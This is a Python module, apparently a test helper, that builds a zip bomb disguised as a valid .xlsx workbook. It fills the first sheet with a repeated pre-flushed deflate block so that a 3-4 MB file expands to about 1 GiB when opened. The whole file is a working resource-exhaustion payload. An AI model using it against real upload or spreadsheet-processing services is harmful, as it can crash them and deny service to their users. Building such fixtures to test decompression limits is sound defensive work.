"""A zip bomb in the shape of an .xlsx: a real workbook whose first sheet expands to 1 GiB (3-4 MB on disk).

Built in well under a second: the sheet's deflate stream repeats one fully flushed block, whose bytes do not
depend on what came before, so 1 GiB is never compressed; only its checksum is computed.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from pathlib import Path

from openpyxl import Workbook

GIB = 1024 * 1024 * 1024
SHEET = "xl/worksheets/sheet1.xml"
_ROW = b'<row r="9"><c r="A9" t="inlineStr"><is><t>Verein e.V.</t></is></c><c r="B9"><v>1000</v></c></row>'


def _skeleton() -> dict[str, bytes]:
    workbook = Workbook()
    workbook.active.append(["Aktenzeichen", "Antragsteller", "beantragt"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _deflate_repeated(head: bytes, chunk: bytes, times: int, tail: bytes) -> tuple[bytes, int, int]:
    """Raw deflate of head + chunk * times + tail, its CRC-32 and uncompressed size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    start = compressor.compress(head) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    end = compressor.compress(tail) + compressor.flush()
    crc = zlib.crc32(head)
    for _ in range(times):
        crc = zlib.crc32(chunk, crc)
    crc = zlib.crc32(tail, crc)
    return start + block * times + end, crc, len(head) + len(chunk) * times + len(tail)


def _zip(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A zip archive of already deflated members (name, data, crc, uncompressed size)."""
    out, central = io.BytesIO(), io.BytesIO()
    for name, data, crc, size in members:
        encoded, offset = name.encode(), out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(encoded), 0))
        out.write(encoded + data)
        central.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size,
                                  len(encoded), 0, 0, 0, 0, 0, offset) + encoded)
    directory, start = central.getvalue(), out.tell()
    out.write(directory)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), start, 0))
    return out.getvalue()


def write_zip_bomb(path: Path, expanded: int = GIB) -> Path:
    """An .xlsx at `path` whose sheet expands to about `expanded` bytes."""
    members = []
    for name, content in _skeleton().items():
        if name == SHEET:
            head = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                    b'spreadsheetml/2006/main"><sheetData>')
            chunk = _ROW * (1024 * 1024 // len(_ROW))
            members.append((name, *_deflate_repeated(head, chunk, expanded // len(chunk), b"</sheetData></worksheet>")))
        else:
            members.append((name, *_deflate_repeated(content, b"", 0, b"")))
    path.write_bytes(_zip(members))
    return path
